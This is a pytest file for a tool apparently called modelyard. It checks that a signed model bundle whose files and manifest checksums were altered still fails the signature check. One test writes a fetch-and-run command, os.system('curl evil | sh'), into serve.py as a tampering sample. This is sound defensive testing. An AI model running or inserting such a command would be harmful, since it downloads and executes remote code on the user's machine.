"""Signed bundles: a re-hashed bundle passes the checksums but fails the signature check."""

import hashlib
import io
import json
import os
import stat
import tarfile

import pytest

from modelyard.cli.main import main as cli
from modelyard.deploy import signing
from modelyard.deploy.bundle import export_bundle, verify_bundle
from modelyard.errors import InvalidInputError


@pytest.fixture
def public_key(home, tmp_path, capsys):
    path = tmp_path / "team.pub"
    assert cli(["bundle", "key", "--out", str(path)]) == 0
    assert "Wrote the public key" in capsys.readouterr().out
    return path


@pytest.fixture
def signed(store, version, tmp_path):
    return export_bundle(store, version, tmp_path / "signed", sign=True)


def rehash(folder, name, text):
    """What an attacker with write access does: change a file and its sha256 in the manifest."""
    (folder / name).write_text(text)
    manifest_path = folder / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["files"][name]["sha256"] = hashlib.sha256(text.encode()).hexdigest()
    manifest["files"][name]["size"] = len(text.encode())
    manifest_path.write_text(json.dumps(manifest, indent=2))


def test_a_signed_bundle_verifies_with_the_public_key(signed, public_key, capsys):
    assert (signed.path / "manifest.sig").is_file()
    assert signed.signed_by == signing.public_key_id()
    assert verify_bundle(signed.path).ok  # the checksums alone, as before
    assert cli(["bundle", "verify", str(signed.path), "--key", str(public_key)]) == 0
    assert f"signature by key {signed.signed_by} is valid" in capsys.readouterr().out


def test_a_rehashed_signed_bundle_fails_with_the_key(signed, public_key, capsys):
    rehash(signed.path, "serve.py", "import os\nos.system('curl evil | sh')\n")
    assert verify_bundle(signed.path).ok  # checksums are integrity against accidents only
    result = verify_bundle(signed.path, key=public_key)
    assert not result.ok and result.signature_ok is False
    assert cli(["bundle", "verify", str(signed.path), "--key", str(public_key)]) == 1
    assert "signature does not match manifest.json" in capsys.readouterr().err


def test_a_removed_signature_fails_with_the_key(signed, public_key):
    (signed.path / "manifest.sig").unlink()
    rehash(signed.path, "serve.py", "print('evil')\n")
    result = verify_bundle(signed.path, key=public_key)
    assert not result.ok and "not signed" in result.describe()


def test_a_bundle_signed_by_another_key_names_both_keys(signed, tmp_path, monkeypatch):
    monkeypatch.setenv("MODELYARD_HOME", str(tmp_path / "someone-else"))
    other = tmp_path / "other.pub"
    other.write_text(signing.public_key_pem())
    result = verify_bundle(signed.path, key=other)
    assert not result.ok and f"signed with key {signed.signed_by}" in result.describe()


def test_a_tampered_signed_bundle_names_the_files_and_the_signature(signed, public_key):
    (signed.path / "model.skops").write_bytes(b"evil")
    text = verify_bundle(signed.path, key=public_key).describe()
    assert "changed: model.skops" in text and "signature by key" in text


def test_the_key_is_made_once_and_kept_private(home, store, version, tmp_path):
    first = export_bundle(store, version, tmp_path / "a", sign=True)
    second = export_bundle(store, version, tmp_path / "b", sign=True)
    assert first.signed_by == second.signed_by
    key = signing.key_path()
    assert key.is_relative_to(home)
    if os.name == "posix":
        assert stat.S_IMODE(key.stat().st_mode) == 0o600
        assert stat.S_IMODE(key.parent.stat().st_mode) == 0o700
    assert [p.name for p in key.parent.iterdir()] == [key.name]  # no temporary left


def test_a_signed_archive_verifies_and_a_rehashed_one_does_not(
    store, version, tmp_path, public_key
):
    archive = export_bundle(store, version, tmp_path / "churn-v1", archive=True, sign=True)
    assert verify_bundle(archive.path, key=public_key).ok
    evil = b"print('evil')\n"
    crafted = tmp_path / "crafted.tar.gz"
    with tarfile.open(archive.path) as src, tarfile.open(crafted, "w:gz") as dst:
        for member in src.getmembers():
            data = src.extractfile(member).read() if member.isfile() else None
            if member.name == "churn-v1/serve.py":
                data = evil
            elif member.name == "churn-v1/manifest.json":
                manifest = json.loads(data)
                manifest["files"]["serve.py"]["sha256"] = hashlib.sha256(evil).hexdigest()
                data = json.dumps(manifest).encode()
            if data is not None:
                member.size = len(data)
            dst.addfile(member, io.BytesIO(data) if data is not None else None)
    assert verify_bundle(crafted).ok
    assert not verify_bundle(crafted, key=public_key).ok


def test_the_public_key_prints_and_a_bad_key_file_is_a_clear_error(home, tmp_path, capsys):
    assert cli(["bundle", "key"]) == 0
    assert capsys.readouterr().out.startswith("-----BEGIN PUBLIC KEY-----")
    bad = tmp_path / "bad.pub"
    bad.write_text("not a key")
    with pytest.raises(InvalidInputError, match="not an ed25519 public key"):
        verify_bundle(tmp_path, key=bad)


def test_cli_export_sign_says_how_to_check_it(store, version, tmp_path, capsys):
    assert cli(["export", "churn-model", "--out", str(tmp_path / "b"), "--sign"]) == 0
    out = capsys.readouterr().out
    assert "Signed with key" in out and "bundle key" in out
